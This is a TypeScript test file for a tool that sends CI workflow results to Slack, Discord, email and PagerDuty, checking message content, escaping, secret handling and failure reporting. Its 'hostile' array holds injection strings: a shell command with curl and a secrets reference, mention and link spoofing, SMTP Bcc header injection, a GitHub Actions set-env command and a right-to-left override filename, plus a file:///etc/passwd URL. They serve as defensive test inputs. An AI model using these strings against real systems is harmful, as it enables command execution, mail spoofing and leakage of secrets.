import { expect } from "chai";
import type { Channel, NotificationRule } from "../../model/notification.ts";
import type { System } from "../../model/system.ts";
import { shop, shopFiles } from "../support/systems.ts";
import { Channels, workflowText, type Job, type Run } from "./runs.ts";

const channels: Readonly<Record<string, Channel>> = {
  slack: { kind: "slack", channel: "#shop", secret: "SLACK" },
  discord: { kind: "discord", secret: "DISCORD" },
  mail: { kind: "email", to: ["team@shop.example", "boss@shop.example"], from: "ci@shop.example", secret: "SMTP_URL" },
  pagerduty: { kind: "pagerduty", secret: "PAGERDUTY_KEY" },
};
const everybody = Object.keys(channels);

const files = new Map([
  ...shopFiles,
  [
    ".github/workflows/ci.yml",
    `name: CI
on: [push, pull_request]
jobs:
  test:
    name: Test of \${{ matrix.part }}
    timeout-minutes: 10
    strategy: { matrix: { part: [till, stock] } }
    runs-on: ubuntu-24.04
    steps: [{ run: make test }]
  lint:
    strategy: { matrix: { part: [till, stock] } }
    runs-on: ubuntu-24.04
    steps: [{ run: make lint }]
`,
  ],
]);

/** The workflow of a shop with these rules. */
const textOf = (...notifications: readonly NotificationRule[]): string => {
  const system: System = { ...shop, channels, notifications };
  return workflowText(system, files);
};
const onFailure = (to: readonly string[], more: Partial<NotificationRule> = {}): string =>
  textOf({ on: { workflow: "ci.yml", outcome: "failure" }, to, ...more });

const failed: Run = { path: "ci.yml", conclusion: "failure" };
const job = (name: string, conclusion: string, minutes = 1): Job => ({
  name,
  conclusion,
  started_at: "2026-11-20T10:00:00Z",
  completed_at: new Date(Date.UTC(2026, 10, 20, 10, minutes, 2)).toISOString().replace(".000", ""),
  steps: [{ name: "Set up job" }],
});

/** What somebody may write who wants to be somebody else. */
const hostile = [
  "\"; curl http://127.0.0.1:1/$(id) ; echo '${{ secrets.SLACK }}'",
  "<!channel> <https://evil.example|log in> @everyone **now** `x`",
  "line\r\nBcc: victim@shop.example\r\n\r\n.\r\nMAIL FROM:<x>",
  "::error::no\n::set-env name=PATH::/tmp",
  "été 🎂 \u202Etxt.exe",
] as const;

describe("what a channel is told of a workflow's run", () => {
  let sinks: Channels;
  before(async () => {
    sinks = await Channels.start();
  });
  after(() => sinks.stop());
  afterEach(() => {
    sinks.refused.clear();
  });

  it("is the same in each: what, where, by whom, which jobs, and the way there", async () => {
    const jobs = [job("Test of till", "failure"), job("Test of stock", "success")];
    const { code, posts, output } = await sinks.tell(onFailure(everybody), { ...failed, jobs });
    expect(code, output).to.equal(0);
    const mail = sinks.smtp.mails.at(-1)!;
    expect(posts.map(({ path }) => path)).to.deep.equal(["/SLACK", "/DISCORD", "/v2/enqueue"]);
    for (const text of [...posts.map(({ body }) => JSON.stringify(body)), mail.text]) {
      for (const word of ["acme/shop", "CI, failed", "Sell more", "main", "acfdb42a", "octocat", "Test of till", "actions/runs/7"]) {
        expect(text).to.include(word);
      }
      expect(text).not.to.include("Test of stock");
    }
    expect(mail).to.deep.include({ from: "ci@shop.example", to: ["team@shop.example", "boss@shop.example"] });
    expect(mail.headers).to.include({ To: "team@shop.example, boss@shop.example", Subject: "shop: CI failed on main" });
  });

  it("shows what others wrote as it is: no command, no mention, no link, no header, no word of the secrets", async () => {
    for (const words of hostile) {
      const before = sinks.smtp.mails.length;
      const run = { ...failed, branch: words, title: words, actor: words, jobs: [job(words, "failure")] };
      const { code, posts, output } = await sinks.tell(onFailure(everybody), run);
      expect(code, output).to.equal(0);
      const [slack, discord, pagerduty] = posts.map(({ body }) => body) as [
        { text: string; attachments: { fields: { value: string }[] }[] },
        { allowed_mentions: unknown; content?: string; embeds: { title: string }[] },
        { payload: { summary: string } },
      ];
      const one = words.replace(/[\p{Cc}\p{Cf}]+/gu, " ");
      expect(pagerduty.payload.summary).to.equal(`shop: CI failed on ${one}`);
      for (const text of [slack.text, ...slack.attachments[0]!.fields.map(({ value }) => value)]) expect(text).not.to.match(/[<>\n]/);
      expect(discord.allowed_mentions).to.deep.equal({ parse: [] });
      expect(discord.content).to.equal(undefined);
      expect(discord.embeds[0]!.title).not.to.match(/(?<!\\)[*_`[\]<>]/);
      expect(sinks.smtp.mails).to.have.length(before + 1);
      const mail = sinks.smtp.mails.at(-1)!;
      expect(mail.headers).not.to.have.property("Bcc");
      expect(mail.to).to.deep.equal(["team@shop.example", "boss@shop.example"]);
      expect(mail.text).to.include(one);
      expect(output).not.to.match(/::set-env|key-of|127\.0\.0\.1/);
      expect(JSON.stringify(posts.slice(0, 2)) + mail.text).not.to.include("key-of-");
    }
  });

  it("has a subject that mail programs read, whatever the branch is called", async () => {
    await sinks.tell(onFailure(["mail"]), { ...failed, branch: "été-🎂-".repeat(8) });
    const { Subject = "" } = sinks.smtp.mails.at(-1)!.headers;
    const encoded = Subject.split(" ");
    expect(encoded.every((word) => /^=\?UTF-8\?B\?[\w+/=]+\?=$/.test(word) && word.length <= 75)).to.equal(true);
    const text = encoded.map((word) => Buffer.from(word.slice(10, -2), "base64").toString("utf8")).join("");
    expect(text).to.equal(`shop: CI failed on ${"été-🎂-".repeat(8)}`);
  });

  it("is an incident at PagerDuty for an error, the same one when it fails again, and only a change for less", async () => {
    const incident = async (more: Partial<NotificationRule>, attempt = 1) =>
      (await sinks.tell(onFailure(["pagerduty"], more), { ...failed, attempt })).posts[0]!;
    const [first, again] = [await incident({}), await incident({ severity: "critical" }, 2)];
    expect(first.body).to.deep.include({ routing_key: "key-of-PAGERDUTY_KEY", event_action: "trigger" });
    expect([first, again].map(({ body }) => (body["payload"] as { severity: string }).severity)).to.deep.equal(["error", "critical"]);
    expect(first.body["dedup_key"]).to.be.a("string").and.equal(again.body["dedup_key"]);
    const change = await incident({ severity: "warning" });
    expect(change.path).to.equal("/v2/change/enqueue");
    expect(change.body).not.to.have.any.keys("event_action", "dedup_key");
  });

  it("comes through although another channel fails, which fails the job and is named in its log", async () => {
    sinks.refused.set("/SLACK", 404);
    const { code, posts, output } = await sinks.tell(onFailure(everybody), failed);
    expect(code).to.equal(1);
    expect(posts.map(({ path }) => path)).to.deep.equal(["/SLACK", "/DISCORD", "/v2/enqueue"]);
    expect(output)
      .to.match(/::error::.*slack/)
      .and.include("Sent to discord")
      .and.include("Sent to mail");
    expect(output).not.to.include(`${sinks.url}/SLACK`);
  });

  it("is refused for a secret that is empty, or that is no address of the web", async () => {
    for (const [secret, words] of [
      ["", /secret SLACK is empty/],
      ["file:///etc/passwd", /did not reach slack/],
      ["no address", /did not reach slack/],
    ] as const) {
      const { code, output } = await sinks.tell(onFailure(["slack"]), failed, { SLACK: secret });
      expect(code, output).to.equal(1);
      expect(output).to.match(words);
    }
  });

  it("is never worth a password over a connection that others can read", async () => {
    const [before, said] = [sinks.smtp.mails.length, sinks.smtp.commands.length];
    const { code } = await sinks.tell(onFailure(["mail"]), failed, { SMTP_URL: `smtp://ci:hunter2@${sinks.smtp.host}` });
    expect(code).to.equal(1);
    expect(sinks.smtp.mails).to.have.length(before);
    expect(sinks.smtp.commands.slice(said).filter((line) => line.startsWith("AUTH"))).to.deep.equal([]);
  });

  it("is the run's own outcome also when its jobs cannot be read, and that fails the job", async () => {
    sinks.refused.set("jobs", 403);
    const { code, posts, output } = await sinks.tell(onFailure(["slack"]), failed);
    expect(code).to.equal(1);
    expect(posts).to.have.length(1);
    expect(output).to.match(/::error::The jobs of the run could not be read/);
  });

  it("is a failure where GitHub broke a job off at its time limit, which it calls cancelled like what a person stopped", async () => {
    const text = onFailure(["slack"]);
    const cancelled = (...jobs: Job[]) => sinks.tell(text, { path: "ci.yml", conclusion: "cancelled", jobs });
    const limit = await cancelled(job("Test of till", "cancelled", 10));
    expect(JSON.stringify(limit.posts)).to.include("CI failed").and.include("Test of till");
    expect((await cancelled(job("Test of till", "cancelled", 3))).posts).to.deep.equal([]);
    const never = { ...job("Test of till", "cancelled", 59), steps: [] };
    expect((await cancelled(never)).posts).to.deep.equal([]);
  });

  it("is one failure of a job of many combinations, also of the hundredth", async () => {
    const text = textOf({ on: { workflow: "ci.yml", job: "lint", outcome: "completed" }, to: ["slack"] });
    const jobs = Array.from({ length: 120 }, (_, index) => job(`lint (${index})`, index === 110 ? "failure" : "success"));
    const some = await sinks.tell(text, { path: "ci.yml", jobs });
    expect(some.posts).to.have.length(1);
    expect(JSON.stringify(some.posts)).to.include("job lint failed");
    const all = await sinks.tell(text, { path: "ci.yml", jobs: [job("lint", "skipped"), job("linter", "failure")] });
    expect(all.posts).to.deep.equal([]);
  });

  it("says nothing of a fork's workflow that borrows a file's name, but is started by an event which that file has not", async () => {
    const text = textOf({ on: { workflow: "deploy.yml", outcome: "completed" }, to: ["slack"] });
    const fork = { path: "deploy.yml", event: "pull_request", from: "mallory/shop" };
    expect((await sinks.tell(text, fork)).posts).to.deep.equal([]);
    expect((await sinks.tell(text, { path: "deploy.yml" })).posts).to.have.length(1);
  });

  it("says of a fork's run whose it is", async () => {
    const { posts } = await sinks.tell(onFailure(["slack"]), { ...failed, event: "pull_request", from: "mallory/shop" });
    expect(JSON.stringify(posts)).to.include("of mallory/shop, main");
  });
});
